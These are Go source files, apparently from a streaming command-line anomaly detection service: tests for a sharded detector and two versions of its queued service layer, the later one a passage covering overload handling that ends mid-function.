// shardedTestConfig exercises every session feature: multi-line context,
// decayed aggregation, both thresholds, short idle timeout.
func shardedTestConfig() Config {
	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggDecay
	cfg.LineThreshold = 0.9
	cfg.SessionThreshold = 0.6
	cfg.IdleTimeout = 900
	cfg.MaxSessionLines = 8
	return cfg
}

// replayEvents materializes a few looping passes over a generated corpus
// as a single event stream with many interleaved users.
func replayEvents(t *testing.T, users, total int) []Event {
	t.Helper()
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 50
	ccfg.TestLines = 600
	ccfg.Users = users
	ccfg.Seed = 11
	_, test, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	rep := corpus.NewReplayer(test, true)
	events := make([]Event, 0, total)
	for _, s := range rep.NextBatch(total) {
		events = append(events, Event{User: s.User, Time: s.Time, Line: s.Line})
	}
	if len(events) != total {
		t.Fatalf("replayer produced %d events, want %d", len(events), total)
	}
	return events
}

// TestShardedEquivalence is the tentpole invariant: a corpus.Replayer
// stream processed through a 4-shard detector yields byte-identical
// per-event verdicts and identical aggregate stats to the unsharded
// detector — sharding changes throughput, never results. (ScoredInputs is
// excluded: within-batch dedup is per shard, so the sharded figure may
// exceed the unsharded one when a line repeats across shards.)
func TestShardedEquivalence(t *testing.T) {
	events := replayEvents(t, 16, 1800)
	cfg := shardedTestConfig()

	single := NewDetector(&hashScorer{}, cfg)
	scorers := make([]tuning.Scorer, 4)
	for i := range scorers {
		scorers[i] = &hashScorer{}
	}
	sharded, err := NewShardedDetector(scorers, cfg)
	if err != nil {
		t.Fatal(err)
	}

	const window = 257 // odd size: windows split mid-session
	for at := 0; at < len(events); at += window {
		end := at + window
		if end > len(events) {
			end = len(events)
		}
		want, err := single.Process(events[at:end])
		if err != nil {
			t.Fatal(err)
		}
		got, err := sharded.Process(events[at:end])
		if err != nil {
			t.Fatal(err)
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("event %d+%d: sharded verdict %+v, unsharded %+v", at, i, got[i], want[i])
			}
		}
	}

	wantSt, gotSt := single.Stats(), sharded.Stats()
	wantSt.ScoredInputs, gotSt.ScoredInputs = 0, 0
	if !reflect.DeepEqual(wantSt, gotSt) {
		t.Fatalf("stats diverge:\nsharded   %+v\nunsharded %+v", gotSt, wantSt)
	}
	if single.HighWater() != sharded.HighWater() {
		t.Fatalf("high water: sharded %d, unsharded %d", sharded.HighWater(), single.HighWater())
	}
	// The idle sweep evicts the same sessions either way.
	if w, g := single.EvictIdle(single.HighWater()), sharded.EvictIdle(sharded.HighWater()); w != g {
		t.Fatalf("EvictIdle: sharded %d, unsharded %d", g, w)
	}
}

// TestShardedServiceEquivalence runs the same stream through the
// asynchronous sharded service: Submit's partition/scatter must return
// verdicts in input order, identical to the unsharded detector.
func TestShardedServiceEquivalence(t *testing.T) {
	events := replayEvents(t, 16, 1500)
	cfg := shardedTestConfig()

	single := NewDetector(&hashScorer{}, cfg)
	scorers := make([]tuning.Scorer, 4)
	for i := range scorers {
		scorers[i] = &hashScorer{}
	}
	sharded, err := NewShardedDetector(scorers, cfg)
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sharded, ServiceConfig{QueueRequests: 4, BatchEvents: 128})
	defer svc.Close()

	const window = 300
	for at := 0; at < len(events); at += window {
		end := at + window
		if end > len(events) {
			end = len(events)
		}
		want, err := single.Process(events[at:end])
		if err != nil {
			t.Fatal(err)
		}
		got, err := svc.Submit(events[at:end])
		if err != nil {
			t.Fatal(err)
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("event %d+%d: service verdict %+v, unsharded %+v", at, i, got[i], want[i])
			}
		}
	}
	st := svc.Stats()
	if st.Events != int64(len(events)) {
		t.Fatalf("service events %d, want %d", st.Events, len(events))
	}
	if len(st.Shards) != 4 {
		t.Fatalf("per-shard stats: %d entries, want 4", len(st.Shards))
	}
	var sum int64
	active := 0
	for _, ss := range st.Shards {
		sum += ss.Events
		active += ss.ActiveSessions
		if ss.QueueCapacity != 4 {
			t.Fatalf("shard %d queue capacity %d, want 4", ss.Shard, ss.QueueCapacity)
		}
	}
	if sum != st.Events || active != st.ActiveSessions {
		t.Fatalf("per-shard stats do not sum to totals: events %d/%d sessions %d/%d",
			sum, st.Events, active, st.ActiveSessions)
	}
	// 16 users over 4 shards with FNV keying: more than one shard busy.
	busy := 0
	for _, ss := range st.Shards {
		if ss.Events > 0 {
			busy++
		}
	}
	if busy < 2 {
		t.Fatalf("only %d shards saw traffic; routing is degenerate", busy)
	}
}

// gateScorer blocks until its gate closes, so tests can pile up queued
// requests on every shard before any scoring happens.
type gateScorer struct {
	gate   chan struct{}
	scored atomic.Int64
}

func (g *gateScorer) Score(lines []string) ([]float64, error) {
	<-g.gate
	g.scored.Add(int64(len(lines)))
	return make([]float64, len(lines)), nil
}

// TestShardedCloseDrainsAllShards: Close must answer every accepted
// request on every shard — no event is dropped at SIGTERM even with all
// shard workers mid-flight and queues full.
func TestShardedCloseDrainsAllShards(t *testing.T) {
	const shards = 4
	gate := make(chan struct{})
	scorers := make([]tuning.Scorer, shards)
	gates := make([]*gateScorer, shards)
	for i := range scorers {
		gates[i] = &gateScorer{gate: gate}
		scorers[i] = gates[i]
	}
	sharded, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sharded, ServiceConfig{QueueRequests: 2, BatchEvents: 4})

	// 40 producers over 40 distinct users: every shard gets traffic, every
	// queue fills, some producers block on the full queues.
	const producers = 40
	var wg sync.WaitGroup
	var delivered atomic.Int64
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			user := fmt.Sprintf("user-%d", p)
			// Unique lines: within-batch dedup would otherwise collapse
			// coalesced requests and undercount scored inputs below.
			vs, err := svc.Submit([]Event{ev(user, int64(p), fmt.Sprintf("cmd %d", p))})
			if err == nil && len(vs) == 1 {
				delivered.Add(1)
			}
		}(p)
	}
	// Wait until the queues hold work (workers are gated), then close
	// while producers are still in flight.
	deadline := time.After(2 * time.Second)
	for svc.Stats().QueueDepth < shards {
		select {
		case <-deadline:
			t.Fatalf("queue depth %d never accumulated", svc.Stats().QueueDepth)
		case <-time.After(time.Millisecond):
		}
	}
	close(gate)
	wg.Wait()
	svc.Close()

	if got := delivered.Load(); got != producers {
		t.Fatalf("delivered %d, want %d (drain must answer every accepted request)", got, producers)
	}
	var scored int64
	for _, g := range gates {
		scored += g.scored.Load()
	}
	if scored != producers {
		t.Fatalf("scored %d events across shards, want %d", scored, producers)
	}
	if st := svc.Stats(); st.Events != producers || st.QueueDepth != 0 {
		t.Fatalf("post-drain stats: %+v", st)
	}
	if _, err := svc.Submit([]Event{ev("late", 1, "x")}); err != ErrClosed {
		t.Fatalf("Submit after Close: %v, want ErrClosed", err)
	}
	svc.Close() // idempotent
}

// TestShardedConcurrentIngest hammers a sharded service from many
// producers over many users (run with -race in CI): per-user verdict
// streams must stay ordered and complete.
func TestShardedConcurrentIngest(t *testing.T) {
	scorers := make([]tuning.Scorer, 4)
	for i := range scorers {
		scorers[i] = &hashScorer{}
	}
	sharded, err := NewShardedDetector(scorers, shardedTestConfig())
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sharded, ServiceConfig{QueueRequests: 8, BatchEvents: 64})

	const producers = 8
	const perProducer = 30
	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			user := fmt.Sprintf("worker-%d", p)
			for i := 0; i < perProducer; i++ {
				vs, err := svc.Submit([]Event{ev(user, int64(100*i), fmt.Sprintf("cmd %d %d", p, i))})
				if err != nil {
					t.Errorf("producer %d: %v", p, err)
					return
				}
				// One producer per user submitting serially: the session
				// must grow monotonically (capped by the sliding window).
				wantLines := i + 1
				if max := svc.Sharded().Config().MaxSessionLines; wantLines > max {
					wantLines = max
				}
				if vs[0].SessionLines != wantLines {
					t.Errorf("producer %d event %d: session lines %d, want %d",
						p, i, vs[0].SessionLines, wantLines)
					return
				}
			}
		}(p)
	}
	wg.Wait()
	svc.Close()
	if st := svc.Stats(); st.Events != producers*perProducer {
		t.Fatalf("events %d, want %d", st.Events, producers*perProducer)
	}
}

// cacheStatScorer is a stub that exposes cache stats, to pin the /stats
// plumbing without training a model.
type cacheStatScorer struct {
	hashScorer
	stats tuning.CacheStats
}

func (c *cacheStatScorer) CacheStats() tuning.CacheStats { return c.stats }

// TestShardedServiceCacheStats: per-shard service stats surface each
// scorer's LRU counters and hit rate.
func TestShardedServiceCacheStats(t *testing.T) {
	scorers := []tuning.Scorer{
		&cacheStatScorer{stats: tuning.CacheStats{Hits: 30, Misses: 10, Entries: 7}},
		&cacheStatScorer{stats: tuning.CacheStats{Hits: 0, Misses: 0, Entries: 0}},
	}
	sharded, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sharded, ServiceConfig{})
	defer svc.Close()

	st := svc.Stats()
	if len(st.Shards) != 2 {
		t.Fatalf("%d shard stats, want 2", len(st.Shards))
	}
	if st.Shards[0].Cache == nil || st.Shards[0].Cache.Hits != 30 {
		t.Fatalf("shard 0 cache stats: %+v", st.Shards[0].Cache)
	}
	if got := st.Shards[0].CacheHitRate; got != 0.75 {
		t.Fatalf("shard 0 hit rate %g, want 0.75", got)
	}
	if st.Shards[1].Cache == nil || st.Shards[1].CacheHitRate != 0 {
		t.Fatalf("shard 1 cache stats: %+v rate %g", st.Shards[1].Cache, st.Shards[1].CacheHitRate)
	}
	// Plain scorers expose no cache: the field stays nil.
	plain := NewService(NewDetector(&hashScorer{}, DefaultConfig()), ServiceConfig{})
	defer plain.Close()
	if ps := plain.Stats(); ps.Shards[0].Cache != nil {
		t.Fatalf("plain scorer reported cache stats: %+v", ps.Shards[0].Cache)
	}
}

// TestShardedProcessShardError: one shard's scoring failure aborts the
// whole batch on every shard (two-phase commit), so a retry of the same
// events never double-ingests — the unsharded retry-safety contract.
func TestShardedProcessShardError(t *testing.T) {
	// The flaky scorer owns whichever users hash to shard 1; find a user
	// per shard.
	flaky := &flakyScorer{failing: true}
	scorers := []tuning.Scorer{&stubScorer{def: 0.25}, flaky}
	sharded, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	var ok0, bad1 string
	for i := 0; ok0 == "" || bad1 == ""; i++ {
		u := fmt.Sprintf("u%d", i)
		if shardOf(u, 2) == 0 {
			if ok0 == "" {
				ok0 = u
			}
		} else if bad1 == "" {
			bad1 = u
		}
	}
	events := []Event{ev(ok0, 1, "x"), ev(bad1, 2, "y")}
	if _, err := sharded.Process(events); err == nil {
		t.Fatal("shard error swallowed")
	}
	st := sharded.Stats()
	if st.ActiveSessions != 0 || st.SessionsStarted != 0 || st.ScoredInputs != 0 {
		t.Fatalf("batch not fully rolled back across shards: %+v", st)
	}
	if st.Events != 2 { // failed events still count as seen
		t.Fatalf("events %d, want 2", st.Events)
	}

	// The retry ingests every event exactly once.
	flaky.failing = false
	vs, err := sharded.Process(events)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range vs {
		if v.SessionLines != 1 {
			t.Fatalf("retried event %d: session lines %d, want 1 (no double ingest)", i, v.SessionLines)
		}
	}
	if st := sharded.Stats(); st.ActiveSessions != 2 || st.Events != 4 {
		t.Fatalf("post-retry stats: %+v", st)
	}
}

// TestShardedConcurrentProcess: ShardedDetector.Process must be safe for
// concurrent use — overlapping multi-shard calls serialize via ascending
// lock order instead of deadlocking (ABBA on shard pipeline mutexes).
// Guarded by a watchdog so a reintroduced deadlock fails fast instead of
// hanging the suite.
func TestShardedConcurrentProcess(t *testing.T) {
	scorers := make([]tuning.Scorer, 2)
	for i := range scorers {
		scorers[i] = &hashScorer{}
	}
	sharded, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	// Every call spans both shards, maximizing lock-order collisions.
	const goroutines = 8
	const rounds = 50
	done := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		go func(g int) {
			for i := 0; i < rounds; i++ {
				_, err := sharded.Process([]Event{
					ev(fmt.Sprintf("a%d", g), int64(i), "x"),
					ev(fmt.Sprintf("b%d", g), int64(i), "y"),
				})
				if err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}(g)
	}
	watchdog := time.After(30 * time.Second)
	for g := 0; g < goroutines; g++ {
		select {
		case err := <-done:
			if err != nil {
				t.Fatal(err)
			}
		case <-watchdog:
			t.Fatal("concurrent Process calls deadlocked")
		}
	}
	if st := sharded.Stats(); st.Events != goroutines*rounds*2 {
		t.Fatalf("events %d, want %d", st.Events, goroutines*rounds*2)
	}
}

// TestShardOfStable: routing is a pure function of the user key, in range,
// and spreads a realistic user population across shards.
func TestShardOfStable(t *testing.T) {
	seen := make(map[int]int)
	for i := 0; i < 1000; i++ {
		u := fmt.Sprintf("host-%04d", i)
		sh := shardOf(u, 8)
		if sh != shardOf(u, 8) {
			t.Fatalf("shardOf(%q) unstable", u)
		}
		if sh < 0 || sh >= 8 {
			t.Fatalf("shardOf(%q) = %d out of range", u, sh)
		}
		seen[sh]++
	}
	for sh := 0; sh < 8; sh++ {
		if seen[sh] == 0 {
			t.Fatalf("shard %d received no users out of 1000", sh)
		}
	}
	if shardOf("anything", 1) != 0 || shardOf("anything", 0) != 0 {
		t.Fatal("degenerate shard counts must route to 0")
	}
}
