package stream

import (
	"errors"
	"fmt"
	"sync"

	"clmids/internal/tuning"
)

// ErrClosed is returned by Submit after Close has begun.
var ErrClosed = errors.New("stream: service closed")

// ServiceConfig sizes the asynchronous front. The zero value selects
// defaults. Queue and batch bounds are per shard: a hot shard saturating
// its queue back-pressures only producers sending to it.
type ServiceConfig struct {
	// QueueRequests bounds each shard's request queue; a full queue blocks
	// Submit (backpressure to the producer). Default 64.
	QueueRequests int
	// BatchEvents caps how many events a shard worker coalesces from its
	// queued requests into one Detector.Process call. Default 512.
	BatchEvents int
}

func (c ServiceConfig) withDefaults() ServiceConfig {
	if c.QueueRequests <= 0 {
		c.QueueRequests = 64
	}
	if c.BatchEvents <= 0 {
		c.BatchEvents = 512
	}
	return c
}

// ShardServiceStats is one shard's slice of a stats snapshot: its detector
// counters, its queue state, and — when the shard's scorer runs on an
// LRU-cached engine — its cache counters. Per-shard queue depth exposes
// load skew (hot users hashing to one shard); the hit rate exposes cache
// effectiveness per replica.
type ShardServiceStats struct {
	Shard int `json:"shard"`
	Stats
	QueueDepth    int `json:"queue_depth"`
	QueueCapacity int `json:"queue_capacity"`
	// Cache is nil when the shard's scorer exposes no cache stats.
	Cache *tuning.CacheStats `json:"cache,omitempty"`
	// CacheHitRate is Cache's hit rate, 0 without cache stats.
	CacheHitRate float64 `json:"cache_hit_rate"`
}

// ServiceStats aggregates detector counters and queue state across shards;
// Shards carries the per-shard breakdown (len 1 for an unsharded service).
type ServiceStats struct {
	Stats
	// QueueDepth is the number of requests waiting across all shard queues
	// at snapshot time.
	QueueDepth int `json:"queue_depth"`
	// QueueCapacity is the configured bound summed across shards.
	QueueCapacity int `json:"queue_capacity"`
	// Shards is the per-shard breakdown.
	Shards []ShardServiceStats `json:"shards"`
}

type request struct {
	events []Event
	reply  chan result
}

type result struct {
	verdicts []Verdict
	err      error
}

// svcShard is one shard's asynchronous lane: a bounded queue drained by
// one coalescing worker over the shard's detector.
type svcShard struct {
	det   *Detector
	queue chan request
	done  chan struct{}
}

// Service runs a ShardedDetector behind bounded per-shard queues:
// producers Submit event slices, the service routes each event to its
// user's shard (hash(user) % N, the same key the detector uses), and each
// shard's single worker coalesces adjacent requests into full scoring
// batches — one Detector.Process per batch, so the engine sees large
// deduplicated requests even when producers send line by line. Submit
// blocks while a target shard's queue is full (backpressure), and Close
// drains every accepted request on every shard before returning.
//
// One worker per shard is deliberate: per-user event order must survive
// queuing, and hash routing guarantees a user's events always meet the
// same worker. Cross-shard scoring runs concurrently — that is the whole
// point — while scoring parallelism within a shard still lives inside the
// engine-backed scorer.
type Service struct {
	sd     *ShardedDetector
	cfg    ServiceConfig
	shards []*svcShard

	mu     sync.RWMutex
	closed bool
}

// NewService starts a single-shard service over det — the unsharded
// configuration, kept for callers that bring their own Detector.
func NewService(det *Detector, cfg ServiceConfig) *Service {
	return NewShardedService(newShardedFromDetectors([]*Detector{det}), cfg)
}

// NewShardedService starts one queue + coalescing worker per shard of sd.
func NewShardedService(sd *ShardedDetector, cfg ServiceConfig) *Service {
	s := &Service{sd: sd, cfg: cfg.withDefaults()}
	s.shards = make([]*svcShard, sd.Shards())
	for i := range s.shards {
		sh := &svcShard{
			det:   sd.Shard(i),
			queue: make(chan request, s.cfg.QueueRequests),
			done:  make(chan struct{}),
		}
		s.shards[i] = sh
		go s.worker(sh)
	}
	return s
}

// Submit routes events to their shards, enqueues one request per involved
// shard, and waits for all verdicts, returned one per event in input
// order. It blocks while a target shard's queue is full; after Close it
// returns ErrClosed. Concurrent Submits of the same user are serialized by
// that user's single shard queue, so per-user order within one Submit is
// always preserved.
//
// Error semantics: each shard's coalesced scoring batch is atomic (it
// rolls back on failure, Detector.Process semantics), but shards coalesce
// independently, so when a multi-shard Submit returns an error the events
// on shards whose batches succeeded have been ingested. Synchronous
// callers needing all-or-nothing across shards should use
// ShardedDetector.Process, which two-phase commits.
func (s *Service) Submit(events []Event) ([]Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}
	n := len(s.shards)

	// The read lock spans the sends: Close flips closed under the write
	// lock, so no Submit can be sending when the channels close.
	if n == 1 {
		req := request{events: events, reply: make(chan result, 1)}
		s.mu.RLock()
		if s.closed {
			s.mu.RUnlock()
			return nil, ErrClosed
		}
		s.shards[0].queue <- req
		s.mu.RUnlock()
		res := <-req.reply
		return res.verdicts, res.err
	}

	parts, pos := partitionEvents(events, n)
	type pendingReq struct {
		shard int
		reply chan result
	}
	pending := make([]pendingReq, 0, n)
	s.mu.RLock()
	if s.closed {
		s.mu.RUnlock()
		return nil, ErrClosed
	}
	for sh := 0; sh < n; sh++ {
		if len(parts[sh]) == 0 {
			continue
		}
		req := request{events: parts[sh], reply: make(chan result, 1)}
		s.shards[sh].queue <- req
		pending = append(pending, pendingReq{shard: sh, reply: req.reply})
	}
	s.mu.RUnlock()

	out := make([]Verdict, len(events))
	var errs []error
	for _, p := range pending {
		res := <-p.reply
		if res.err != nil {
			errs = append(errs, fmt.Errorf("shard %d: %w", p.shard, res.err))
			continue
		}
		scatter(out, pos[p.shard], res.verdicts)
	}
	if len(errs) > 0 {
		return nil, errors.Join(errs...)
	}
	return out, nil
}

// Close stops intake, drains every queued request on every shard through
// its detector, and waits for all shard workers to exit. Safe to call more
// than once.
func (s *Service) Close() {
	s.mu.Lock()
	already := s.closed
	s.closed = true
	s.mu.Unlock()
	if !already {
		for _, sh := range s.shards {
			close(sh.queue)
		}
	}
	for _, sh := range s.shards {
		<-sh.done
	}
}

// Stats snapshots detector counters plus queue state, aggregated across
// shards, with the per-shard breakdown attached.
func (s *Service) Stats() ServiceStats {
	st := ServiceStats{
		Stats:  s.sd.Stats(),
		Shards: make([]ShardServiceStats, len(s.shards)),
	}
	for i, sh := range s.shards {
		ss := ShardServiceStats{
			Shard:         i,
			Stats:         sh.det.Stats(),
			QueueDepth:    len(sh.queue),
			QueueCapacity: s.cfg.QueueRequests,
		}
		if cs, ok := sh.det.scorerRef().(tuning.CacheStatser); ok {
			c := cs.CacheStats()
			ss.Cache = &c
			ss.CacheHitRate = c.HitRate()
		}
		st.QueueDepth += ss.QueueDepth
		st.QueueCapacity += ss.QueueCapacity
		st.Shards[i] = ss
	}
	return st
}

// SwapScorer hot-reloads the service's scorer across every shard without
// stopping intake: queued requests keep queueing, in-flight batches finish
// on the old scorer, and every batch after the swap scores on the new one
// (ShardedDetector.SwapScorer semantics — atomic between batches, nothing
// dropped, no mixed batch).
func (s *Service) SwapScorer(sc tuning.Scorer, version string) error {
	return s.sd.SwapScorer(sc, version)
}

// ScorerVersion returns the active scorer artifact version.
func (s *Service) ScorerVersion() string { return s.sd.ScorerVersion() }

// Sharded exposes the wrapped sharded detector.
func (s *Service) Sharded() *ShardedDetector { return s.sd }

// Detector exposes shard 0's detector — the whole detector for a
// single-shard service. Sweeps and stats should prefer EvictIdle,
// HighWater, and Stats, which fan out across every shard.
func (s *Service) Detector() *Detector { return s.sd.Shard(0) }

// EvictIdle fans the idle-session sweep out across every shard and
// returns the total evicted.
func (s *Service) EvictIdle(now int64) int { return s.sd.EvictIdle(now) }

// HighWater returns the latest event time seen across all shards.
func (s *Service) HighWater() int64 { return s.sd.HighWater() }

// worker drains one shard's queue until it is closed and empty, coalescing
// requests up to BatchEvents per scoring call.
func (s *Service) worker(sh *svcShard) {
	defer close(sh.done)
	for req := range sh.queue {
		batch := []request{req}
		total := len(req.events)
	coalesce:
		for total < s.cfg.BatchEvents {
			select {
			case more, ok := <-sh.queue:
				if !ok {
					break coalesce
				}
				batch = append(batch, more)
				total += len(more.events)
			default:
				break coalesce
			}
		}
		events := make([]Event, 0, total)
		for _, r := range batch {
			events = append(events, r.events...)
		}
		verdicts, err := sh.det.Process(events)
		at := 0
		for _, r := range batch {
			if err != nil {
				r.reply <- result{err: fmt.Errorf("stream: batch of %d events: %w", total, err)}
				continue
			}
			r.reply <- result{verdicts: verdicts[at : at+len(r.events)]}
			at += len(r.events)
		}
	}
}
