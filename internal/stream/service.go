package stream

import (
	"context"
	"errors"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"clmids/internal/model"
	"clmids/internal/tuning"
)

// ErrClosed is returned by Submit after Close has begun.
var ErrClosed = errors.New("stream: service closed")

// ErrOverloaded is returned by Submit under the shed policy when a target
// shard's queue is full. The HTTP layer maps it to 429 + Retry-After;
// callers seeing it should back off and resend.
var ErrOverloaded = errors.New("stream: shard queue full")

// ServiceConfig sizes the asynchronous front. The zero value selects
// defaults. Queue and batch bounds are per shard: a hot shard saturating
// its queue back-pressures only producers sending to it.
type ServiceConfig struct {
	// QueueRequests bounds each shard's request queue; a full queue blocks
	// Submit (backpressure to the producer). Default 64.
	QueueRequests int
	// BatchEvents caps how many events a shard worker coalesces from its
	// queued requests into one Detector.Process call. Default 512.
	BatchEvents int

	// Overload selects what happens when a shard queue saturates: block
	// (default), shed (ErrOverloaded), or degrade (block + precision
	// downshift under sustained overload). See OverloadPolicy.
	Overload OverloadPolicy
	// HighWaterFrac is the queue-depth fraction at which a shard counts as
	// saturated for the degrade policy. Default 0.75.
	HighWaterFrac float64
	// DegradeAfter is how long a shard must stay saturated before the
	// degrade policy downshifts it one precision rung. Default 2s.
	DegradeAfter time.Duration
	// RecoverAfter is how long a degraded shard must stay calm before it
	// shifts one rung back up. Default 15s (recovery is deliberately much
	// slower than degradation: flapping costs a scorer swap each way).
	RecoverAfter time.Duration
	// OverloadTick is the monitor's sampling interval. Default 250ms.
	OverloadTick time.Duration
}

func (c ServiceConfig) withDefaults() ServiceConfig {
	if c.QueueRequests <= 0 {
		c.QueueRequests = 64
	}
	if c.BatchEvents <= 0 {
		c.BatchEvents = 512
	}
	if c.HighWaterFrac <= 0 || c.HighWaterFrac > 1 {
		c.HighWaterFrac = 0.75
	}
	if c.DegradeAfter <= 0 {
		c.DegradeAfter = 2 * time.Second
	}
	if c.RecoverAfter <= 0 {
		c.RecoverAfter = 15 * time.Second
	}
	if c.OverloadTick <= 0 {
		c.OverloadTick = 250 * time.Millisecond
	}
	return c
}

// ShardServiceStats is one shard's slice of a stats snapshot: its detector
// counters, its queue state, and — when the shard's scorer runs on an
// LRU-cached engine — its cache counters. Per-shard queue depth exposes
// load skew (hot users hashing to one shard); the hit rate exposes cache
// effectiveness per replica.
type ShardServiceStats struct {
	Shard int `json:"shard"`
	Stats
	QueueDepth    int `json:"queue_depth"`
	QueueCapacity int `json:"queue_capacity"`
	// Cache is nil when the shard's scorer exposes no cache stats.
	Cache *tuning.CacheStats `json:"cache,omitempty"`
	// CacheHitRate is Cache's hit rate, 0 without cache stats.
	CacheHitRate float64 `json:"cache_hit_rate"`
	// Precision is the shard scorer's serving rung, empty when the scorer
	// does not report one.
	Precision string `json:"precision,omitempty"`
	// Degraded reports whether the degrade policy currently holds this
	// shard below its native precision rung.
	Degraded bool `json:"degraded"`
	// Downshifts / Upshifts count this shard's precision shifts since the
	// scorer was (re)bound.
	Downshifts int64 `json:"downshifts,omitempty"`
	Upshifts   int64 `json:"upshifts,omitempty"`
}

// ServiceStats aggregates detector counters and queue state across shards;
// Shards carries the per-shard breakdown (len 1 for an unsharded service).
type ServiceStats struct {
	Stats
	// Config is the resolved session configuration — the fleet router reads
	// it off /stats to mirror session semantics (shadow windows, handoff
	// checkpoints) and to refuse replicas whose configs disagree.
	Config Config `json:"config"`
	// QueueDepth is the number of requests waiting across all shard queues
	// at snapshot time.
	QueueDepth int `json:"queue_depth"`
	// QueueCapacity is the configured bound summed across shards.
	QueueCapacity int `json:"queue_capacity"`
	// OverloadPolicy is the configured policy ("block" | "shed" |
	// "degrade").
	OverloadPolicy string `json:"overload_policy"`
	// ShedRequests counts Submits rejected with ErrOverloaded.
	ShedRequests int64 `json:"shed_requests"`
	// DegradedShards counts shards currently serving below native
	// precision.
	DegradedShards int `json:"degraded_shards"`
	// Shards is the per-shard breakdown.
	Shards []ShardServiceStats `json:"shards"`
}

type request struct {
	events []Event
	reply  chan result
}

type result struct {
	verdicts []Verdict
	err      error
}

// svcShard is one shard's asynchronous lane: a bounded queue drained by
// one coalescing worker over the shard's detector.
type svcShard struct {
	det   *Detector
	queue chan request
	done  chan struct{}
}

// Service runs a ShardedDetector behind bounded per-shard queues:
// producers Submit event slices, the service routes each event to its
// user's shard (hash(user) % N, the same key the detector uses), and each
// shard's single worker coalesces adjacent requests into full scoring
// batches — one Detector.Process per batch, so the engine sees large
// deduplicated requests even when producers send line by line. What a full
// shard queue means is the overload policy's call: block (backpressure,
// bounded by the Submit context), shed (ErrOverloaded), or degrade (block,
// plus precision downshift under sustained saturation). Close drains every
// accepted request on every shard before returning.
//
// One worker per shard is deliberate: per-user event order must survive
// queuing, and hash routing guarantees a user's events always meet the
// same worker. Cross-shard scoring runs concurrently — that is the whole
// point — while scoring parallelism within a shard still lives inside the
// engine-backed scorer.
type Service struct {
	sd     *ShardedDetector
	cfg    ServiceConfig
	shards []*svcShard

	mu       sync.RWMutex
	closed   bool
	closing  chan struct{}  // closed when Close begins; unblocks queued senders
	inflight sync.WaitGroup // admitted Submits not yet done sending

	shed atomic.Int64

	// degMu serializes everything that decides which scorer a shard should
	// run: the overload monitor's shift sweeps and SwapScorer's rebind.
	// Lock order is degMu → (detector) procMu; nothing acquires them the
	// other way.
	degMu       sync.Mutex
	deg         []*shardDegrade
	monitorDone chan struct{}
}

// NewService starts a single-shard service over det — the unsharded
// configuration, kept for callers that bring their own Detector.
func NewService(det *Detector, cfg ServiceConfig) *Service {
	return NewShardedService(newShardedFromDetectors([]*Detector{det}), cfg)
}

// NewShardedService starts one queue + coalescing worker per shard of sd,
// plus — under the degrade policy — the overload monitor.
func NewShardedService(sd *ShardedDetector, cfg ServiceConfig) *Service {
	s := &Service{
		sd:          sd,
		cfg:         cfg.withDefaults(),
		closing:     make(chan struct{}),
		monitorDone: make(chan struct{}),
	}
	s.shards = make([]*svcShard, sd.Shards())
	s.deg = make([]*shardDegrade, sd.Shards())
	for i := range s.shards {
		sh := &svcShard{
			det:   sd.Shard(i),
			queue: make(chan request, s.cfg.QueueRequests),
			done:  make(chan struct{}),
		}
		s.shards[i] = sh
		s.deg[i] = &shardDegrade{}
		go s.worker(sh)
	}
	s.degMu.Lock()
	s.initDegrade()
	s.degMu.Unlock()
	if s.cfg.Overload == OverloadDegrade {
		go s.monitor()
	} else {
		close(s.monitorDone)
	}
	return s
}

// Submit is SubmitContext without a deadline: it blocks as long as the
// overload policy blocks.
func (s *Service) Submit(events []Event) ([]Verdict, error) {
	return s.SubmitContext(context.Background(), events)
}

// SubmitContext routes events to their shards, enqueues one request per
// involved shard, and waits for all verdicts, returned one per event in
// input order. While a target shard's queue is full it blocks until there
// is room, ctx is done (ctx.Err()), or Close begins (ErrClosed) — under
// the shed policy it returns ErrOverloaded immediately instead of
// blocking. Concurrent Submits of the same user are serialized by that
// user's single shard queue, so per-user order within one Submit is always
// preserved.
//
// Error semantics: each shard's coalesced scoring batch is atomic (it
// rolls back on failure, Detector.Process semantics), but shards coalesce
// independently, so when a multi-shard Submit returns an error — a scoring
// failure, cancellation, or shed mid-enqueue — events already accepted by
// other shards have been (or will be) ingested. The shed policy pre-checks
// every involved shard's queue before enqueueing anything, so a shed
// rejection is usually, but not guaranteedly, all-or-nothing. Synchronous
// callers needing all-or-nothing across shards should use
// ShardedDetector.Process, which two-phase commits.
func (s *Service) SubmitContext(ctx context.Context, events []Event) ([]Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}

	// Admission: registering with inflight under the read lock pairs with
	// Close's write-lock flip — after Close observes closed=true and
	// inflight drains, no sender exists, so closing the queues is safe.
	s.mu.RLock()
	if s.closed {
		s.mu.RUnlock()
		return nil, ErrClosed
	}
	s.inflight.Add(1)
	s.mu.RUnlock()
	defer s.inflight.Done()

	n := len(s.shards)
	if n == 1 {
		if err := s.admit(s.shards[:1]); err != nil {
			return nil, err
		}
		req := request{events: events, reply: make(chan result, 1)}
		if err := s.send(ctx, s.shards[0], req); err != nil {
			return nil, err
		}
		select {
		case res := <-req.reply:
			return res.verdicts, res.err
		case <-ctx.Done():
			// The request is accepted and will be processed; the caller
			// stops waiting for the verdicts (the reply buffer absorbs
			// them — the worker never blocks on an abandoned caller).
